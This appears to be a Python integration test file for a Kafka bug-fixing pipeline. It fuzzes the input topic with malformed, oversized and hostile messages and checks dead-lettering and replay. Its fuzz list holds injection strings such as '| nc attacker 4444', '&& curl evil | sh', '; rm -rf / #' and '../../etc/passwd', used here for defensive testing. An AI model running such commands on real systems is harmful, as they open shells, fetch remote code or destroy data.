"""Hostile input on bugs.reported, through one real worker: every bad message is dead-lettered
exactly once with its bytes intact, the worker keeps running, and the valid bugs produced
between them are still fixed. Then ``fixstream dlq list`` and ``replay`` on what was refused."""

from __future__ import annotations

import asyncio
import re
import shutil
import time

import orjson
import pytest
from aiokafka import AIOKafkaProducer
from aiokafka.errors import MessageSizeTooLargeError
from conftest import EXAMPLES, read_until
from hypothesis import HealthCheck, Phase, example, given, note
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from test_pipeline import _fixes, _reports
from typer.testing import CliRunner

from fixstream.artifacts import ArtifactStore
from fixstream.dlq import Entry, replay
from fixstream.kafka import producer, reader
from fixstream.schemas import Comment, DeadLetter, FixEvent

pytestmark = pytest.mark.integration

LIMIT = 64 * 1024  # the settings fixture's max_message_bytes
MISSING = "/nonexistent-fixstream-poison"  # nothing under it exists: such a repo never resolves
BUG_ID = re.compile(r"[A-Za-z0-9._:@/-]{1,200}")  # BugReport.bug_id
NOT_JSON, SCHEMA, TOO_BIG = "not valid JSON", "does not match schema", "exceeds the limit of 65536"
NO_REPO, NO_CLONE, BAD_KEY = "repository path does not exist", "git clone failed", "can't decode"
OTHER_KEY = "differs from bug_id"
READABLE = (NO_REPO, NO_CLONE, "File name too long")  # the value decodes: its key is checked


class Poison:
    """One bad message, and a fragment of the reason it must be dead-lettered with."""

    __slots__ = ("bug_id", "expect", "key", "kind", "value")

    def __init__(
        self,
        kind: str,
        value: bytes | None,
        expect: str,
        key: bytes | None = b"poison",
        bug_id: str = "poison",
    ):
        self.kind, self.value, self.expect, self.key = kind, value, expect, key
        self.bug_id = bug_id
        """The value's bug id, when the value decodes (a key other than it is refused)."""

    def __repr__(self) -> str:  # hypothesis prints failing batches: keep megabytes out
        def cut(b: bytes | None) -> str:
            return repr(b if b is None or len(b) < 120 else b[:100] + b"...%d bytes" % len(b))

        return f"Poison({self.kind!r}, key={cut(self.key)}, value={cut(self.value)})"


def _report(**fields) -> dict:
    """Schema-valid apart from ``fields``; its repository never exists."""
    return {"bug_id": "poison", "title": "poison", "repo": {"path": f"{MISSING}/repo"}, **fields}


def _json(obj) -> bytes:
    return orjson.dumps(obj)


def _is_json(data: bytes) -> bool:
    try:
        orjson.loads(data)
    except orjson.JSONDecodeError:
        return False
    return True


HOSTILE = [
    "\x00", "nul\x00inside", "\x1b[2J\x1b[31mred\x07", "\u202egnp.exe", "zero\u200bwidth\ufeff",
    "../../etc/passwd", "..\\..\\windows\\system32", "$(reboot)", "`id`", "; rm -rf / #",
    "| nc attacker 4444", "&& curl evil | sh", "%s%n%x", "{{7*7}}", "' OR 1=1 --",
    "\r\nX-Injected: 1", "🐛" * 3000, "\U0010ffff\ufffe", "a" * 201,
]  # fmt: skip
hostile_text = st.one_of(
    st.sampled_from(HOSTILE), st.text(st.characters(codec="utf-8"), min_size=1, max_size=40)
)


def _hostile_field(field: str, text: str) -> Poison:
    report = {
        "bug_id": _report(bug_id=text),
        "title": _report(title=text),
        "description": _report(description=text),
        "comment": _report(comments=[{"author": text, "body": text}]),
        "label": _report(labels=[text, text]),
        "source": _report(source=text),
        "repo.path": _report(repo={"path": f"{MISSING}/{text}"}),
    }[field]
    if field == "repo.path" and len(text.encode()) > 255:  # one path component
        # is_dir() raises ENAMETOOLONG rather than answer False: a RepositoryNotFoundError
        return Poison(f"hostile {field}", _json(report), "File name too long")
    valid_id = BUG_ID.fullmatch(text) is not None and all(
        part not in ("", ".", "..") for part in text.split("/")
    )
    valid = {"bug_id": valid_id, "title": len(text) <= 1000}
    expect = NO_REPO if valid.get(field, True) else SCHEMA
    bug_id = text if field == "bug_id" else "poison"
    return Poison(f"hostile {field}", _json(report), expect, b"poison", bug_id)


def _splice(field: str, seq: bytes) -> bytes:
    return _json(_report(**{field: "MARK"})).replace(b"MARK", b"ab" + seq + b"cd")


def _huge(field: str, n: int) -> bytes:
    if field == "raw":
        return b"A" * n
    if field == "unicode":
        return _json(_report(description="🐛" * (n // 4 + 1)))
    return _json(_report(**{field: "x" * n}))


def _nested_labels(depth: int) -> Poison:
    doc = _json(_report(labels="MARK")).replace(b'"MARK"', b"[" * depth + b"]" * depth)
    return Poison(f"labels nested {depth} deep", doc, NOT_JSON if depth > 1000 else SCHEMA)


WRONG_TYPES = {
    "bug_id": [1, [], {}, True, None, "", 1.5],
    "title": [1, [], {"a": 1}, None, ""],
    "description": [None, 1, ["x"]],
    "repo": ["x", 1, [], None, {}, {"path": 1}, {"path": "/x", "test_command": []},
             {"path": "/x", "test_command": "pytest"}],
    "comments": ["x", {"a": 1}, [1], [{}]],
    "artifacts": ["x", [1], [{"name": "a"}], [{"name": "a", "uri": "file:///x"}]],
    "labels": ["x", [1], [None]],
    "priority": ["urgent", 1],
    "reported_at": ["yesterday", [], -1e300],
}  # fmt: skip
DOC = _json(_report(description="a complete report, cut short"))
BAD_REPOS = [
    ({"path": MISSING}, NO_REPO),
    ({"path": str(EXAMPLES / "off_by_one" / "report.json")}, NO_REPO),  # a file
    ({"path": "nonexistent-fixstream-poison/relative"}, NO_REPO),
    ({"url": f"file://{MISSING}/repo.git"}, NO_CLONE),
    ({"url": f"{MISSING}/repo.git", "commit": "deadbeef"}, NO_CLONE),
]

values = st.one_of(
    # malformed JSON: a proper prefix of an object, garbage, near misses
    st.integers(1, len(DOC) - 1).map(lambda n: Poison("truncated JSON", DOC[:n], NOT_JSON)),
    st.binary(max_size=200)
    .filter(lambda b: not _is_json(b))
    .map(lambda b: Poison("garbage", b, NOT_JSON)),
    st.sampled_from(
        [
            b"{'a': 1}",
            b'{"bug_id": "x",}',
            b"NaN",
            b'{"a": 1}trailing',
            b"\xef\xbb\xbf{}",
            b"1e999999",
            b'{"title": "\\ud800"}',
        ]
    ).map(lambda b: Poison("near-JSON", b, NOT_JSON)),
    st.sampled_from([b"[]", b"1", b'"x"', b"null", b"true", b"[{}]"]).map(
        lambda b: Poison("not an object", b, "expected a JSON object")
    ),
    # wrong types, missing fields
    st.sampled_from(sorted(WRONG_TYPES)).flatmap(
        lambda f: st.sampled_from(WRONG_TYPES[f]).map(
            lambda v: Poison(f"wrong type for {f}", _json(_report(**{f: v})), SCHEMA)
        )
    ),
    st.sets(st.sampled_from(["bug_id", "title", "repo"]), min_size=1).map(
        lambda drop: Poison(
            f"missing {sorted(drop)}",
            _json({k: v for k, v in _report().items() if k not in drop}),
            SCHEMA,
        )
    ),
    # over the size limit, inline or (past twice the limit) through the artifact store
    st.tuples(
        st.sampled_from(["description", "title", "bug_id", "raw", "unicode"]),
        st.integers(LIMIT + 1, 1_500_000),
    ).map(lambda t: Poison(f"huge {t[0]} ({t[1]} bytes)", _huge(*t), TOO_BIG)),
    # deep nesting, under the size limit (past it, the size is the reason)
    st.sampled_from([b"[", b'{"a":']).flatmap(
        lambda opener: st.integers(1025, LIMIT // len(opener)).map(
            lambda n: Poison(f"{n} levels of {opener!r}", opener * n, NOT_JSON)
        )
    ),
    st.one_of(st.integers(2, 900), st.integers(1100, 5000)).map(_nested_labels),
    # invalid UTF-8 inside a string
    st.tuples(
        st.sampled_from(["bug_id", "title", "description"]),
        st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xc0\xaf", b"\x80", b"\xf8\x88"]),
    ).map(lambda t: Poison(f"invalid UTF-8 in {t[0]}", _splice(*t), NOT_JSON)),
    # hostile strings: refused by the schema, or by analysis (the repository never exists)
    st.tuples(
        st.sampled_from(
            ["bug_id", "title", "description", "comment", "label", "source", "repo.path"]
        ),
        hostile_text,
    ).map(lambda t: _hostile_field(*t)),
    # valid JSON, a repository that cannot be found or fetched
    st.sampled_from(BAD_REPOS).map(
        lambda r: Poison(f"bad repo {r[0]}", _json(_report(repo=r[0])), r[1])
    ),
    st.just(Poison("tombstone (no value)", None, "empty message (no value)")),
)
keys = st.one_of(
    st.just(b"poison"),
    st.none(),
    st.text(st.characters(codec="utf-8"), min_size=1, max_size=30).map(str.encode),
    st.binary(min_size=1, max_size=30),
    st.sampled_from([b"\xff\xfe", b"../../etc/passwd", b"\x00\x01", b"$(reboot)"]),
    st.integers(70_000, 300_000).map(lambda n: b"K" * n),  # used to kill the worker
)


@st.composite
def poisons(draw) -> Poison:
    poison, key = draw(values), draw(keys)
    if poison.value is None and key is None:
        key = b"poison"  # aiokafka sends a key, a value or both
    try:
        key is None or key.decode()
    except UnicodeDecodeError:  # the key is decoded first, after the check for a null value
        if poison.value is not None:
            return Poison(poison.kind + " + key not UTF-8", poison.value, BAD_KEY, key)
    expect = poison.expect
    if expect in READABLE and key is not None and key != poison.bug_id.encode():
        expect = OTHER_KEY
    return Poison(poison.kind, poison.value, expect, key, poison.bug_id)


EVERY_KIND = [  # the explicit example: one of each, whatever the random ones draw
    Poison("truncated JSON", b'{"bug_id": "poison", "tit', NOT_JSON),
    Poison("empty bytes", b"", NOT_JSON),
    Poison("not an object", b"[]", "expected a JSON object"),
    Poison("wrong type", _json(_report(title=42)), SCHEMA),
    Poison("missing fields", _json({"title": "x"}), SCHEMA),
    Poison("huge, inline", _huge("description", LIMIT + 10), TOO_BIG),
    Poison("huge, stored", _huge("unicode", 600_000), TOO_BIG, None),
    Poison("deep", b"[" * 10_000, NOT_JSON),
    _nested_labels(3000),
    Poison("invalid UTF-8", _splice("title", b"\xff"), NOT_JSON),
    Poison("escaped lone surrogate", b'{"bug_id": "\\udc80", "title": "x"}', NOT_JSON),
    *(_hostile_field("bug_id", s) for s in ["nul\x00inside", "../../etc/passwd", "$(reboot)"]),
    _hostile_field("title", "\u202egnp.exe \x1b[31m `id` ; rm -rf / #"),
    _hostile_field("repo.path", "../../etc/passwd\x00"),
    _hostile_field("repo.path", "🐛" * 3000),
    *(Poison(f"bad repo {r}", _json(_report(repo=r)), why) for r, why in BAD_REPOS[1:4]),
    Poison("tombstone", None, "empty message (no value)"),
    Poison("a key that is not its bug id", _json(_report(bug_id="keyed")), OTHER_KEY, b"other"),
    Poison("key not UTF-8", b"{}", BAD_KEY, b"\xff\xfe"),
    Poison("huge key", b"{", NOT_JSON, b"K" * 300_000),
    Poison("huge key and value", _huge("raw", 200_000), TOO_BIG, b"K" * 200_000),
]


async def _produce(settings, messages: list[tuple[bytes | None, bytes | None]]) -> list:
    """Raw bytes as any client could send them (not through fixstream's own producer)."""
    client = AIOKafkaProducer(bootstrap_servers=settings.broker, max_request_size=8 << 20)
    await client.start()
    try:
        return [
            await client.send_and_wait("bugs.reported", value, key=key) for key, value in messages
        ]
    finally:
        await client.stop()


def _letters(settings, done, timeout: float = 60) -> list:
    """(letter, record) of every dead letter once ``done``; all there are after ``timeout``."""

    async def read() -> list:
        records: list = []
        deadline = time.monotonic() + timeout
        async with reader(settings, ["bugs.dlq"]) as consumer:
            while time.monotonic() < deadline and not done(records):
                for part in (await consumer.getmany(timeout_ms=200)).values():
                    records.extend(part)
        return records

    records = asyncio.run(read())
    return [(DeadLetter.from_record(r.key, r.value, list(r.headers)), r) for r in records]


def _where(record) -> tuple[int, int]:
    """The original partition and offset a dead-letter record names."""
    letter = DeadLetter.from_record(record.key, record.value, list(record.headers))
    return letter.partition, letter.offset


def _stored(record, part: str, store: ArtifactStore) -> bytes | None:
    """The original ``key``/``value`` of a dead letter: in the record or in the store."""
    headers = dict(record.headers)
    uri = headers.get(f"fixstream.dlq.{part}_uri")
    if uri is None and part == "value" and "fixstream.dlq.value_null" in headers:
        return None  # a null value, which the record stands in for with an empty one
    if uri is None:
        return record.key if part == "key" else record.value
    return store.get(uri.decode(), headers[f"fixstream.dlq.{part}_sha256"].decode())


def test_poison_is_dead_lettered_once_and_valid_bugs_around_it_are_fixed(settings, start_worker):
    worker = start_worker()
    store = ArtifactStore(settings.artifact_dir)
    valid = _reports(settings, "poison", ["off_by_one", "two_files", "wrong_operator"])
    hostile = [Comment(author="\u202eevil", body=" ".join(HOSTILE[:16]))]
    valid[1] = valid[1].model_copy(
        update={"comments": [*valid[1].comments, *hostile], "labels": ["../x", "$(reboot)"]}
    )
    produced: dict[tuple[int, int], Poison] = {}
    batches: list[int] = []

    # fixstream's own producer refuses a value past four times the limit before the broker
    async def own_producer() -> None:
        async with producer(settings) as client:
            await client.send_and_wait("bugs.reported", b"x" * (4 * LIMIT + 1), key=b"refused")

    with pytest.raises(MessageSizeTooLargeError):
        asyncio.run(own_producer())

    @hypothesis_settings(
        max_examples=2,
        deadline=None,
        database=None,
        phases=[Phase.explicit, Phase.generate],  # each example needs the broker: no shrinking
        suppress_health_check=list(HealthCheck),
    )
    @example(EVERY_KIND)
    @given(st.lists(poisons(), min_size=12, max_size=20))
    def batch(bad: list[Poison]) -> None:
        note(f"batch {len(batches)}: {bad}")
        messages: list[tuple[Poison | None, bytes | None, bytes | None]] = [
            (p, p.key, p.value) for p in bad
        ]
        if not batches:  # valid bugs interleaved with the first batch: first, middle, last
            for at, report in zip((0, len(bad) // 2 + 1, len(bad) + 2), valid, strict=True):
                messages.insert(at, (None, report.bug_id.encode(), report.to_bytes()))
        metas = asyncio.run(_produce(settings, [(k, v) for _, k, v in messages]))
        mine = {
            (m.partition, m.offset): p for m, (p, _, _) in zip(metas, messages, strict=True) if p
        }
        assert len(mine) == len(bad)
        produced.update(mine)
        batches.append(len(bad))

        def all_in(records) -> bool:
            return mine.keys() <= {_where(r) for r in records}

        found: dict[tuple[int, int], list] = {}
        for letter, record in _letters(settings, all_in):
            found.setdefault((letter.partition, letter.offset), []).append((letter, record))
        missing = [p for where, p in mine.items() if where not in found]
        assert not missing, (missing, worker.output()[-5000:])
        for where, poison in mine.items():
            (letter, record), *more = found[where]
            assert not more, (poison, "dead-lettered more than once")
            assert letter.original_topic == "bugs.reported"
            assert letter.reason and poison.expect in letter.reason, (poison, letter.reason)
            assert _stored(record, "key", store) == poison.key, poison
            assert _stored(record, "value", store) == poison.value, poison
        assert worker.process.poll() is None, worker.output()[-3000:]

    batch()
    assert len(batches) >= 2 and sum(batches) >= 40, batches

    ids = {r.bug_id for r in valid}
    fixes = _fixes(settings, ids, timeout=90)
    time.sleep(2)  # a duplicate fix event or dead letter would arrive now
    letters = _letters(settings, lambda records: len(records) > len(produced), timeout=3)
    fixes = _fixes(settings, ids, timeout=10)
    assert sorted(f.bug_id for f in fixes) == sorted(ids), "exactly one fix event per valid bug"
    assert all(f.status == "fixed" for f in fixes), [(f.bug_id, f.reason) for f in fixes]
    assert len(letters) == len(produced), "one dead letter per bad input, none for a valid bug"
    assert {(letter.partition, letter.offset) for letter, _ in letters} == produced.keys()
    assert worker.process.poll() is None, worker.output()[-3000:]


def _dlq(settings, monkeypatch, *args: str):
    from fixstream.cli import State
    from fixstream.dlq import dlq_cli

    monkeypatch.setattr(State, "settings", settings)
    return CliRunner().invoke(dlq_cli, list(args))


def _listed(settings, monkeypatch, *args: str) -> list[dict]:
    result = _dlq(settings, monkeypatch, "list", "--json", *args)
    assert result.exit_code == 0, result.output
    return [orjson.loads(line) for line in result.stdout.splitlines()]


def _wait_listed(settings, monkeypatch, done, timeout: float = 60) -> list[dict]:
    deadline = time.monotonic() + timeout
    while not done(rows := _listed(settings, monkeypatch)):
        assert time.monotonic() < deadline, rows
        time.sleep(0.5)
    return rows


def _refused_bug(settings, tmp_path) -> tuple:
    """An example report refused only because its repository does not exist yet; the path."""
    later = tmp_path / "not-yet" / "repo"
    report = _reports(settings, "replayed", ["off_by_one"])[0]
    report = report.model_copy(update={"repo": report.repo.model_copy(update={"path": str(later)})})
    return report, later


def test_dlq_list_and_replay_once_the_cause_is_fixed(settings, start_worker, monkeypatch, tmp_path):
    worker = start_worker()
    report, later = _refused_bug(settings, tmp_path)
    poison = b'{"bug_id": "poison-replay", "title": '
    asyncio.run(_produce(settings, [(report.bug_id.encode(), report.to_bytes()),
                                    (b"poison-replay", poison)]))  # fmt: skip

    rows = _wait_listed(settings, monkeypatch, lambda rows: len(rows) == 2)
    bug, bad = sorted(rows, key=lambda r: r["key"] != report.bug_id)
    assert (bug["stage"], bug["error_class"]) == ("analysis", "RepositoryNotFoundError")
    assert bug["reason"] == f"repository path does not exist: {later}"
    assert bug["value"] == report.to_bytes().decode() and bug["value_encoding"] == "utf-8"
    assert (bug["replays"], bug["retryable"], bug["original_topic"]) == (0, False, "bugs.reported")
    assert bad["stage"] == "decode:bugs.reported" and bad["value"] == poison.decode()
    assert _listed(settings, monkeypatch, "--stage", "analysis") == [bug]
    assert _listed(settings, monkeypatch, "--stage", "decode", "--error", "BadInputError") == [bad]
    assert len(_listed(settings, monkeypatch, "--limit", "1")) == 1
    shown = _dlq(settings, monkeypatch, "list")
    assert shown.exit_code == 0, shown.output
    assert f"{bug['id']}  bugs.reported[" in shown.stdout
    assert (
        f"analysis  RepositoryNotFoundError  retryable=no  replays=0  key={report.bug_id}\n"
        in shown.stdout
    )
    assert f"    repository path does not exist: {later}\n" in shown.stdout
    assert shown.stdout.endswith("2 dead letter(s) on bugs.dlq\n")

    refused = _dlq(settings, monkeypatch, "replay")
    assert refused.exit_code == 2 and "nothing selected" in refused.output
    dry = _dlq(settings, monkeypatch, "replay", "--offset", bug["id"], "--dry-run")
    assert dry.exit_code == 0 and "would replay: bugs.dlq" in dry.stdout, dry.output

    shutil.copytree(EXAMPLES / "off_by_one" / "repo", later)  # the cause, fixed
    replayed = _dlq(settings, monkeypatch, "replay", "--offset", bug["id"], "--offset", bad["id"])
    assert replayed.exit_code == 0, replayed.output
    assert f"replayed: bugs.dlq {bug['id']} -> bugs.reported key {report.bug_id}" in replayed.stdout
    assert "2 replayed, 0 skipped, 0 failed" in replayed.stdout

    # the report now passes the stage that refused it (its fix event: the test below)
    key = report.bug_id.encode()
    asyncio.run(read_until(settings, "bugs.analyzed", lambda rs: key in {r.key for r in rs}))
    rows = _wait_listed(settings, monkeypatch, lambda rows: len(rows) == 3)
    again = next(r for r in rows if r["id"] not in (bug["id"], bad["id"]))
    assert (again["key"], again["value"], again["replays"]) == ("poison-replay", poison.decode(), 1)

    bounded = _dlq(settings, monkeypatch, "replay", "--offset", again["id"], "--max-replays", "1")
    assert bounded.exit_code == 0 and "already replayed 1 time(s)" in bounded.stdout
    assert "0 replayed, 1 skipped" in bounded.stdout
    assert worker.process.poll() is None


def test_a_replayed_bug_gets_its_fix_event(settings, start_worker, tmp_path):
    worker = start_worker()
    report, later = _refused_bug(settings, tmp_path)
    asyncio.run(_produce(settings, [(report.bug_id.encode(), report.to_bytes())]))
    ((_, record),) = _letters(settings, lambda records: len(records) == 1)
    shutil.copytree(EXAMPLES / "off_by_one" / "repo", later)
    entry = Entry.from_record(
        record.partition, record.offset, record.timestamp, record.key, record.value, record.headers
    )
    assert [o.state for o in asyncio.run(replay(settings, [entry]))] == ["replayed"]

    dropped = f"validate: {report.bug_id} already has its fix event; dropping"

    def fixed_or_dropped(records) -> bool:
        return dropped in worker.output() or any(
            r.key == report.bug_id.encode()
            and FixEvent.model_validate_json(r.value).status == "fixed"
            for r in records
        )

    records = asyncio.run(read_until(settings, "fixes", fixed_or_dropped, timeout=120))
    fixes = [
        FixEvent.model_validate_json(r.value) for r in records if r.key == report.bug_id.encode()
    ]
    assert [f.status for f in fixes][-1:] == ["fixed"], [(f.status, f.reason) for f in fixes]


def test_a_bug_id_cannot_leave_the_workspace_root():
    """The bug id names test workspaces (``make_workspace(root, f"{bug_id}-repro-{n}")``):
    ``../../tmp/x`` makes one outside the workspace root. The schema should refuse it."""
    from fixstream.codec import decode
    from fixstream.errors import BadInputError
    from fixstream.schemas import BugReport

    with pytest.raises(BadInputError):
        decode(BugReport, _json(_report(bug_id="../../etc/passwd")), LIMIT)
